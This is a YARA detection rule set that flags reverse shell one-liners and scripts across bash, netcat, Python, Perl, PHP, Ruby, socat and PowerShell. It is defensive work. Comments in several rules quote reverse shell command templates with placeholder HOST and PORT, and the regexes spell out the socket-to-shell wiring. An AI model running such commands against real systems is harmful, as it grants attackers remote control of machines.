/*
 * Yamori default rule set: reverse shell one-liners and small reverse shell
 * scripts (bash, netcat, Python, Perl, PHP, Ruby, socat, PowerShell).
 *
 * Each rule needs a network connection to a host and port AND the wiring of
 * an interactive shell's standard streams to that connection. Health checks
 * that open /dev/tcp, scripts that only use sockets, and netcat used for file
 * transfer or port checks do not match. Each rule also needs a file that
 * can run (Yamori_Helper_RevShell_Runnable): detection rules, advisories and
 * notes that quote these commands do not match.
 */

private rule Yamori_Helper_RevShell_Rule_Source
{
    meta:
        description = "Helper: the file looks like YARA rule source (rule, strings/meta and condition sections), so text rules do not fire on rule sets."
        severity = "low"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "internal"

    strings:
        $rule = /(^|\n)[ \t]*(private[ \t]+|global[ \t]+){0,2}rule[ \t]+[A-Za-z_][A-Za-z0-9_]{0,127}[ \t\r\n]*(:[^{\n]{0,200})?\{/
        $cond = /\n[ \t]*condition[ \t]*:/
        $sect = /\n[ \t]*(strings|meta)[ \t]*:/

    condition:
        $rule and $cond and $sect
}

private rule Yamori_Helper_RevShell_Runnable
{
    meta:
        description = "Helper: the file can run or is run by the system as commands: it starts with #!, has an execute bit, has a script extension, or is a shell start-up file, shell history, cron table or start-up script. Documents that quote commands (detection rules, advisories, notes) are not."
        severity = "low"
        author = "Yamori project"
        date = "2026-12-06"
        reference = "internal"

    condition:
        uint16(0) == 0x2123 or
        is_executable or
        extension matches /^(sh|bash|zsh|ksh|mksh|dash|csh|tcsh|fish|command|run|py|pyw|pl|pm|cgi|php[0-9]?|phtml|phar|rb|lua|tcl|ps1|psm1|bat|cmd|vbs|vbe|js|jse|wsf|hta|service|desktop)$/ or
        filename matches /^\.(bash_?rc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc|tcshrc|[a-z]{0,8}sh_history)$/ or
        filepath startswith "/etc/cron" or
        filepath startswith "/var/spool/cron/" or
        filepath startswith "/etc/init.d/" or
        filepath startswith "/etc/profile.d/" or
        filepath == "/etc/rc.local" or
        filepath == "/etc/profile" or
        filepath == "/etc/bash.bashrc"
}

rule Yamori_RevShell_Bash_DevTcp : reverse_shell linux
{
    meta:
        description = "Bash reverse shell: an interactive shell whose output goes to /dev/tcp/HOST/PORT and whose input is read back from it, or a file descriptor opened on /dev/tcp that feeds a shell."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        // bash -i >& /dev/tcp/HOST/PORT 0>&1 ; sh -i > /dev/tcp/HOST/PORT 0<&1 2>&1
        $redir = /\b(ba|z|k|da)?sh[ \t]+(-[A-Za-z]+[ \t]+){0,3}[0-9]?(>&|&>|>)[ \t]*\/dev\/(tcp|udp)\/[^\/ \t\r\n]{1,255}\/[0-9]{1,5}[ \t]+([0-9]?>&[0-9][ \t]+){0,2}0(>&|<&)[ \t]*1/
        // exec FD<>/dev/tcp/HOST/PORT  (also used by harmless checks; needs one of the two below)
        $fd_open = /exec[ \t]+[0-9]{1,3}<>[ \t]*\/dev\/(tcp|udp)\/[^\/ \t\r\n]{1,255}\/[0-9]{1,5}/
        // ... ; sh <&FD >&FD 2>&FD
        $fd_shell = /\b(ba|z|k|da)?sh[ \t]+(-[A-Za-z]+[ \t]+){0,2}<&[ \t]*[0-9]{1,3}[ \t]+>&[ \t]*[0-9]{1,3}[ \t]+2>&[ \t]*[0-9]{1,3}/
        // ... ; cat <&FD | while read line; do $line 2>&FD >&FD; done
        $fd_loop = /while[ \t]+read[ \t]+(-r[ \t]+)?[A-Za-z_][A-Za-z0-9_]*[ \t]*;[ \t]*do[ \t]+\$[A-Za-z_{][A-Za-z0-9_}]*[ \t]+([0-9]?>&[ \t]*[0-9]{1,3}[ \t]*){2}/

    condition:
        filesize < 2MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        ($redir or ($fd_open and ($fd_shell or $fd_loop)))
}

rule Yamori_RevShell_Netcat_Shell : reverse_shell
{
    meta:
        description = "Netcat or telnet reverse shell: nc/ncat connecting to a host and port and executing a shell with -e/-c, or a named pipe wiring an interactive shell to an outgoing connection."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        // nc HOST PORT -e /bin/sh
        $nc_after = /\b(nc|ncat|netcat|nc\.traditional)(\.exe)?[ \t]+(-[A-Za-z]+[ \t]+){0,4}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]+-[ec][ \t]*['"]?(\/usr)?(\/bin\/)?((ba|z|da)?sh|cmd(\.exe)?|powershell(\.exe)?)\b/ nocase
        // nc -e /bin/sh HOST PORT
        $nc_before = /\b(nc|ncat|netcat|nc\.traditional)(\.exe)?[ \t]+(-[A-Za-z]+[ \t]+){0,3}-[ec][ \t]*['"]?(\/usr)?(\/bin\/)?((ba|z|da)?sh|cmd(\.exe)?|powershell(\.exe)?)['"]?[ \t]+(-[A-Za-z]+[ \t]+){0,3}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}\b/ nocase
        // mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc HOST PORT > /tmp/f
        // (outgoing connection only: option letters exclude -l, so listening examples do not match)
        $fifo = /mkfifo[ \t]+[^ \t;|&\r\n]{1,200}[ \t]*(;|&&|\n)[^\n]{0,200}\|[ \t]*(\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i[ \t]+2>&1[ \t]*\|[ \t]*(nc|ncat|netcat|telnet)[ \t]+(-[A-Za-km-z0-9]+[ \t]+){0,3}[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]*(1?>)/
        // telnet HOST PORT1 | /bin/sh | telnet HOST PORT2
        $telnet = /telnet[ \t]+[A-Za-z0-9][A-Za-z0-9.\-]{0,253}[ \t]+[0-9]{1,5}[ \t]*\|[ \t]*(\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]*\|[ \t]*telnet[ \t]+[A-Za-z0-9]/

    condition:
        filesize < 2MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        any of them
}

rule Yamori_RevShell_Python_Socket : reverse_shell python
{
    meta:
        description = "Python reverse shell: a socket connected to a host whose descriptor is duplicated onto stdin/stdout/stderr (or passed to a subprocess) and a shell or pty spawned on it."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        mitre_attack = "T1059.006"

    strings:
        $socket = /socket[ \t]*\.[ \t]*socket[ \t]*\(/
        $connect = /\.[ \t]*connect[ \t]*\([ \t]*\(/
        $dup2 = /\bdup2[ \t]*\([ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\.[ \t]*fileno[ \t]*\([ \t]*\)[ \t]*,[ \t]*[012][ \t]*\)/
        $fd_args = /stdin[ \t]*=[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\.[ \t]*fileno[ \t]*\([ \t]*\)[ \t]*,[ \t]*stdout[ \t]*=[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\.[ \t]*fileno[ \t]*\(/
        $pty = /pty[ \t]*\.[ \t]*spawn[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh['"]/
        $subproc = /subprocess[ \t]*\.[ \t]*(call|Popen|run|check_call)[ \t]*\([ \t]*\[[ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh['"]/
        $os_shell = /os[ \t]*\.[ \t]*(system|execv?p?e?|execl)[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh(['"]|[ \t]+-i)/

    condition:
        filesize < 1MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        $socket and $connect and
        ((#dup2 >= 2 and ($pty or $subproc or $os_shell)) or ($fd_args and $subproc))
}

rule Yamori_RevShell_Perl_Socket : reverse_shell perl
{
    meta:
        description = "Perl reverse shell: a socket connected with sockaddr_in whose handle replaces STDIN/STDOUT before a shell is executed, or an IO::Socket connection that runs every received line."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        $connect = /connect[ \t]*\([ \t]*[A-Za-z_$][A-Za-z0-9_]*[ \t]*,[ \t]*sockaddr_in[ \t]*\(/
        $stdin = /open[ \t]*\([ \t]*STDIN[ \t]*,[ \t]*['"]?[<>]?&[ \t]*[A-Za-z_$][A-Za-z0-9_]*/
        $stdout = /open[ \t]*\([ \t]*STDOUT[ \t]*,[ \t]*['"]?>&[ \t]*[A-Za-z_$][A-Za-z0-9_]*/
        $exec_sh = /exec[ \t]*\(?[ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh([ \t]+-i)?['"]/

        $io_sock = /IO::Socket::INET|IO::Socket::IP/
        $fdopen = /fdopen[ \t]*\([ \t]*\$[A-Za-z_][A-Za-z0-9_]*[ \t]*,[ \t]*['"]?r/
        $line_loop = /system[ \t]*\(?[ \t]*\$_[ \t]*\)?[ \t]+while[ \t]*\(?[ \t]*<[A-Za-z]*>/

    condition:
        filesize < 1MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        (($connect and $stdin and $stdout and $exec_sh) or
         ($io_sock and $fdopen and $line_loop))
}

rule Yamori_RevShell_PHP_Socket : reverse_shell php
{
    meta:
        description = "PHP reverse shell: fsockopen to a host combined with an interactive shell bound to the socket descriptor, or proc_open of a shell pumped through stream_select."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        $fsock = /\b(fsockopen|stream_socket_client)[ \t]*\(/
        // exec of "/bin/sh -i <&FD >&FD 2>&FD"
        $fd_shell = /\b(exec|shell_exec|system|passthru|popen)[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i[ \t]*<&[ \t]*[0-9]+[ \t]*>&[ \t]*[0-9]+[ \t]*2>&[ \t]*[0-9]+/
        // proc_open of a shell with descriptors 0, 1 and 2 all set to the socket variable
        $po_sock = /proc_open[ \t]*\([ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh([ \t]+-i)?['"][ \t]*,[ \t]*(array[ \t]*\(|\[)[ \t]*0[ \t]*=>[ \t]*\$[A-Za-z_][A-Za-z0-9_]*[ \t]*,[ \t]*1[ \t]*=>[ \t]*\$[A-Za-z_][A-Za-z0-9_]*/
        // proc_open of an interactive shell, pumped with stream_select
        $po = /proc_open[ \t]*\(/
        $select = /stream_select[ \t]*\(/
        $sh_i = /['"; \t](\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i['"]/

    condition:
        filesize < 1MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        $fsock and ($fd_shell or $po_sock or ($po and $select and $sh_i))
}

rule Yamori_RevShell_Ruby_Socket : reverse_shell ruby
{
    meta:
        description = "Ruby reverse shell: a TCPSocket whose descriptor is given to an interactive shell, or a loop that runs each line received from the socket."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        $tcp = /TCPSocket[ \t]*\.[ \t]*(open|new)[ \t]*\(/
        $fmt = /(\/usr)?(\/bin\/)?(ba|z|da)?sh[ \t]+-i[ \t]+<&%d[ \t]*>&%d[ \t]*2>&%d/
        $spawn = /\[[ \t]*:in[ \t]*,[ \t]*:out[ \t]*,[ \t]*:err[ \t]*\][ \t]*=>[ \t]*[A-Za-z_]/
        $spawn_sh = /spawn[ \t]*\(?[ \t]*['"](\/usr)?(\/bin\/)?(ba|z|da)?sh/
        $loop = /while[ \t]*\(?[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*=[ \t]*[A-Za-z_][A-Za-z0-9_]*[ \t]*\.[ \t]*gets[ \t]*\)?[ \t]*;?[ \t\r\n]*(IO[ \t]*\.[ \t]*popen|`|%x|system)/

    condition:
        filesize < 1MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        $tcp and ($fmt or ($spawn and $spawn_sh) or $loop)
}

rule Yamori_RevShell_Socat_Exec : reverse_shell linux
{
    meta:
        description = "socat reverse shell: an outgoing TCP/SSL/UDP connection joined to EXEC or SYSTEM of a shell."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        mitre_attack = "T1059.004"

    strings:
        // socat tcp-connect:HOST:PORT exec:'bash -li',pty,stderr,setsid
        $conn_first = /socat[ \t]+(-[^ \t\r\n]+[ \t]+){0,4}['"]?(tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?|udp[46]?-connect):[A-Za-z0-9.\-\[\]:]{1,255}:[0-9]{1,5}[^ \t\r\n]*[ \t]+['"]?(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b/ nocase
        // socat exec:/bin/sh,pty tcp:HOST:PORT
        $exec_first = /socat[ \t]+(-[^ \t\r\n]+[ \t]+){0,4}['"]?(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|da)?sh\b[^ \t\r\n]*[ \t]+['"]?(tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?|udp[46]?-connect):[A-Za-z0-9.\-\[\]:]{1,255}:[0-9]{1,5}/ nocase

    condition:
        filesize < 2MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        any of them
}

rule Yamori_RevShell_PowerShell_TCPClient : reverse_shell windows powershell
{
    meta:
        description = "PowerShell reverse shell: a TCPClient stream whose received text is run with Invoke-Expression and whose output is written back to the stream."
        severity = "high"
        author = "Yamori project"
        date = "2026-11-25"
        reference = "https://attack.mitre.org/techniques/T1059/001/"
        mitre_attack = "T1059.001"

    strings:
        $client = /New-Object[ \t]+(System\.)?Net\.Sockets\.TCPClient[ \t]*\(/ nocase ascii wide
        $stream = /\.GetStream[ \t]*\([ \t]*\)/ nocase ascii wide
        $iex = /\b(iex|Invoke-Expression)\b/ nocase ascii wide
        $out = /Out-String/ nocase ascii wide
        $write = /\.Write[ \t]*\([ \t]*\$[A-Za-z_][A-Za-z0-9_]*[ \t]*,[ \t]*0[ \t]*,/ nocase ascii wide
        $read = /\.Read[ \t]*\([ \t]*\$[A-Za-z_][A-Za-z0-9_]*[ \t]*,[ \t]*0[ \t]*,/ nocase ascii wide

    condition:
        filesize < 2MB and
        not Yamori_Helper_RevShell_Rule_Source and
        Yamori_Helper_RevShell_Runnable and
        $client and $stream and $iex and $out and ($write or $read)
}
